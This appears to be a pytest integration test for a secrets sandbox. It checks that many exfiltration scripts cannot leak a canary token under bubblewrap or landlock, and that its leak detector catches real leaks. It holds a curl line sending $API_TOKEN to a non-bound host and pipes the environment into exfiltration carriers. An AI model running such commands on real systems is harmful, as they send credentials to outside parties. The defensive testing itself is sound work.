"""Two hundred ways to carry a secret off: none gets what isn't there."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from handiwork.backends.environment.secrets.vault import held
from handiwork.core.secrets import Secret

from .conftest import BOUND, OTHER
from .exfiltration import CARRIERS, is_in, scripts

pytestmark = pytest.mark.integration
SCRIPTS = list(scripts())


def around(echo: Any, file: Path) -> dict[str, str]:
    return {
        "URL": f"https://{BOUND}:{echo.port}/",
        "OTHER": f"https://{OTHER}:{echo.port}/",
        "OTHER_HOST": OTHER,
        "SECRET_FILE": str(file),
    }


def test_there_are_two_hundred() -> None:
    assert len(SCRIPTS) * len(CARRIERS) >= 200


@pytest.mark.parametrize("place", ["bubblewrap", "landlock"])
def test_the_secret_is_nowhere(
    place: str, open_with: Any, secret: Any, echo: Any, command: Any, canary: str, room: Path, tmp_path: Path
) -> None:
    file = tmp_path / "token.txt"
    file.write_text(canary + "\n")
    filed = held(Secret("FILED_TOKEN", "file", str(file), (f"{BOUND}:{echo.port}",)))
    environment, asked = open_with(place, secret, filed), around(echo, file)
    leaks = [name for name, text in SCRIPTS if is_in(canary, _said(environment, command(text, env=asked, timeout_s=3)))]
    assert not leaks
    assert any(canary.encode() in heard for heard in echo.heard)  # the bound host did get it
    kept = [path for top in (room, tmp_path / "results") for path in top.rglob("*") if path.is_file()]
    assert (room / "loot").stat().st_size > 10_000
    assert not [path for path in kept if is_in(canary, path.read_bytes())]


@pytest.mark.parametrize("carrier", CARRIERS)
def test_a_secret_that_is_there_is_found(carrier: str, canary: str, open_with: Any, secret: Any, command: Any) -> None:
    """What looks for leaks is proven on a command that has the value."""
    ran = open_with("bubblewrap", secret).run(command(f"env | {carrier}", env={"API_TOKEN": canary}))
    assert is_in(canary, ran.output.encode())


def test_hosts_that_give_back_what_they_hear_are_found_out(
    open_with: Any, secret: Any, echo: Any, command: Any, canary: str
) -> None:
    text = 'curl -sS -H "X: $API_TOKEN" "$OTHER"'
    environment = open_with("bubblewrap", secret)
    assert is_in(canary, _said(environment, command(text, env={**around(echo, Path("/")), "API_TOKEN": canary})))


def _said(environment: Any, asked: Any) -> bytes:
    ran = environment.run(asked)
    return f"{ran.output}\n{ran.note}".encode("utf-8", "replace")
